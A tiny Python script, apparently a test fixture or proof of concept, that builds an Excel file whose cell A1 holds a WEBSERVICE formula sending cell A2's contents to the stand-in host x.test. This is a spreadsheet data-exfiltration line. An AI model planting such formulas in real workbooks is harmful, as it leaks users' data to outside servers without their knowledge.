import openpyxl

book = openpyxl.Workbook()
sheet = book.active
sheet["A1"] = '=WEBSERVICE("http://x.test/"&A2)'
book.save("x.xlsx")
